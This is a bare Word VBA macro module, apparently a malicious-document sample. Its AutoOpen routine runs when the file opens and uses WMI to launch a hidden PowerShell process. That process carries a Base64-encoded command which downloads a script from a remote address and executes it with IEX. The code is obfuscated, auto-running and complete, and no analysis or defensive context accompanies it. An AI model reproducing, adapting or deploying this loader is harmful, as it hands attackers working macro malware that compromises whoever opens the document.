Attribute VB_Name = "NewMacros"
Sub AutoOpen()
    Set objWMI = GetObject("winmgmts:\\.\root\cimv2:Win32_Process")
    objWMI.Create "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADQANAAvAGkAbgB2ACcAKQA=", Null, Null, pid
End Sub
